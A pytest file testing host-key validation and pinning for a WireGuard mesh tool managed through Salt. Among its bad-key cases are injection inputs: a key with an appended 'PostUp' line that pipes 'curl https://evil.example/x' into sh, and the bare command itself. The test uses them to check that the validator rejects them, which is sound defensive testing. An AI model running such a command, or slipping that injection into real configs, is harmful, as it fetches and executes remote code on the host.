"""hostkeys: published host keys are checked where they are used, and pinned at first publish."""
from __future__ import annotations

import pytest

from wgmesh_core.hostkeys import resolve_host_keys, served_host_keys
from wgmesh_core.keys import generate_private_key, public_key
from wgmesh_core.plan import host_config

from . import article_texts as art
from .conftest import TODAY

K = art.PUBLIC_KEYS
HOSTS = {host: K[host] for host in ("z", "a", "c")}
ZERO = "A" * 43 + "="


def new_key():
    return public_key(generate_private_key())


def test_good_keys_are_accepted(spec):
    keys = resolve_host_keys(spec, HOSTS)
    assert keys.accepted == HOSTS and keys.refused == {} and keys.new_pins == {}


@pytest.mark.parametrize("bad, why", [
    (ZERO, "the all-zero key"),
    (K["a"] + "\nPostUp = curl https://evil.example/x | sh", "not a WireGuard key"),
    ("curl https://evil.example/x | sh", "not a WireGuard key"),
    (K["e"], "the public key of developers.e"),
    (K["c"], "the same public key as c"),
])
def test_a_bad_published_key_leaves_that_host_out_and_only_it(spec, bad, why):
    keys = resolve_host_keys(spec, dict(HOSTS, a=bad))
    assert why in keys.refused["a"]
    assert "a" not in keys.accepted and keys.accepted["z"] == K["z"]
    hub = host_config(spec, "z", TODAY, keys.accepted, art.PSKS, keys.refused)
    assert why in hub.left_out["a"] and "a" not in [p.name for p in hub.peers]
    assert {"e", "f"} <= {p.name for p in hub.peers}
    assert hub.pending == []          # left out is not pending: a live peer of a is not protected


def test_twins_both_refused_without_pins(spec):
    keys = resolve_host_keys(spec, dict(HOSTS, a=K["c"]))
    assert set(keys.refused) == {"a", "c"} and set(keys.accepted) == {"z"}


def test_first_publish_is_pinned_and_a_change_is_refused(spec):
    first = resolve_host_keys(spec, HOSTS, pins={})
    assert first.new_pins == HOSTS and first.accepted == HOSTS
    changed = new_key()
    later = resolve_host_keys(spec, dict(HOSTS, c=changed), pins=HOSTS)
    assert later.accepted == {"z": K["z"], "a": K["a"]} and later.new_pins == {}
    assert f"published the public key {changed}, not its pinned key {K['c']}" in later.refused["c"]
    assert "salt-run wgmesh.accept_key c" in later.refused["c"]
    assert {changed, K["c"]} <= later.seen


def test_a_pinned_key_stands_when_the_mine_forgets_it(spec):
    keys = resolve_host_keys(spec, {"z": K["z"]}, pins=HOSTS)
    assert keys.accepted == HOSTS


def test_another_hosts_pinned_key_is_refused(spec):
    keys = resolve_host_keys(spec, {"z": K["z"], "a": K["a"], "c": K["a"]}, pins={"z": K["z"], "a": K["a"]})
    assert keys.accepted == {"z": K["z"], "a": K["a"]} and "public key of a" in keys.refused["c"]
    assert keys.new_pins == {}


def test_a_developer_given_a_host_key_later_is_left_out_not_the_host(data):
    from wgmesh_core.validate import load_network
    data["developers"]["f"]["public_key"] = K["a"]
    spec = load_network(data)
    keys = resolve_host_keys(spec, HOSTS, pins=HOSTS)
    assert keys.accepted == HOSTS
    hub = host_config(spec, "z", TODAY, keys.accepted, art.PSKS, keys.refused)
    assert hub.left_out == {"f": "its public key is the key of host a"}
    assert [p.name for p in hub.peers if p.public_key == K["a"]] == ["a"]


def test_keys_served_by_the_master_are_checked_again(spec):
    served = {"accepted": {"z": K["z"], "c": ZERO}, "refused": {"a": "changed key", "nobody": "x"}}
    keys = served_host_keys(spec, served)
    assert keys.accepted == {"z": K["z"]}
    assert keys.refused["a"] == "changed key" and "all-zero" in keys.refused["c"] and "nobody" not in keys.refused
    assert set(served_host_keys(spec, "garbage").refused) == {"z", "a", "c"}


# --- the master's pin store ------------------------------------------------------------

def test_pins_are_recorded_once_and_refusals_reported_once(spec, tmp_path):
    import json
    import stat
    from wgmesh_core.hostkeys import pin_host_keys
    from wgmesh_core.pins import default_pin_file, updating_pins
    path = default_pin_file(str(tmp_path / "wgmesh" / "psk.secret"))
    with updating_pins(path) as store:
        keys, news = pin_host_keys(spec, {"z": K["z"], "a": K["a"]}, store)
    assert keys.new_pins == {"z": K["z"], "a": K["a"]} and news == {}
    assert stat.S_IMODE((tmp_path / "wgmesh" / "host_keys.json").stat().st_mode) == 0o600
    changed = new_key()
    for expect_news in (True, False):                   # the same refusal twice: reported once
        with updating_pins(path) as store:
            keys, news = pin_host_keys(spec, {"z": K["z"], "a": changed, "c": K["c"]}, store)
        assert keys.accepted == {"z": K["z"], "c": K["c"]} and ("a" in news) is expect_news
    saved = json.loads((tmp_path / "wgmesh" / "host_keys.json").read_text())
    assert saved["pinned"] == {"z": K["z"], "a": K["a"], "c": K["c"]} and set(saved["refused"]) == {"a"}


def test_a_corrupt_pin_store_is_an_error_not_an_empty_store(tmp_path):
    from wgmesh_core.pins import read_pins
    path = tmp_path / "host_keys.json"
    path.write_text("[]")
    with pytest.raises(ValueError):
        read_pins(str(path))


def test_published_keys_come_from_the_mine_over_the_pillar(spec):
    from wgmesh_core.hostkeys import published_host_keys
    mine = {"z": {"wgmesh_public_key": K["z"]}, "a": {"wgmesh_public_key": {"__data__": K["a"]}}, "c": None}
    published = published_host_keys(spec, mine.get, {"z": "old", "c": K["c"], "r1": "not a keyed host"})
    assert published["z"] == K["z"] and published["a"] == K["a"] and published["c"] == K["c"]
    assert resolve_host_keys(spec, published).accepted == HOSTS
